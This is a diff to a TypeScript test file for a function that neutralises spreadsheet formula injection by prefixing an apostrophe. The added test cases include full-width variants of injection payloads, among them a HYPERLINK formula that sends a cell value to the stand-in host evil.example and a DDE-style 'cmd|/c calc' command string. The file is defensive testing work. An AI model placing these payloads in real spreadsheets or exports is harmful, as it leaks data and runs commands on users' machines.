@@ -19,6 +19,14 @@ test("an apostrophe stands before what would be a formula at the beginning of a 
     ["a\n- HYPERLINK(A1)", "a\n'- HYPERLINK(A1)"],
     ["a\n- 'http://evil.example/a.ods'#$A.A1", "a\n'- 'http://evil.example/a.ods'#$A.A1"],
     ["a\n+2", "a\n'+2"],
+    [
+      "a\n- HYPERLINK（＂http://evil.example/＂＆A1）\nb",
+      "a\n'- HYPERLINK（＂http://evil.example/＂＆A1）\nb",
+    ],
+    ["a\n- cmd｜'/c calc'！A1\nb", "a\n'- cmd｜'/c calc'！A1\nb"],
+    ["a\n- ＃REF\nb", "a\n'- ＃REF\nb"],
+    ["a;-(1)", "a;'-(1)"],
+    ["|-1:|", "|'-1:|"],
     ["a; - b", "a;' - b"],
     ["'=1", "''=1"],
   ] as const) {
@@ -30,13 +38,15 @@ test("an apostrophe stands before what would be a formula at the beginning of a 
     "a=1, b-1; c @ d",
     "Kinds:\n- one\n- two, **three**; four\n\n---\n+ five",
     "| a | b |\n| --- | :--- |\n| 1 | 2 |",
+    "| a | b | c |\n|---|---:|:-:|\n| - | --- | ---: |",
+    "Great ;-) and ;-), too",
     "a,=1",
     "'tis; 'twas",
   ])
     assert.equal(guardFormulas(text), text);
 });
 
-const PIECE = fc.constantFrom(..."=+-@;|\t\r\n \"'(!#a1,＝－");
+const PIECE = fc.constantFrom(..."=+-@;|\t\r\n \"'(!#a1,:)＝－（｜！＃");
 const TEXT = fc.oneof(
   fc.array(PIECE, { maxLength: 14 }).map((pieces) => pieces.join("")),
   fc.string({ unit: "binary", maxLength: 20 }),
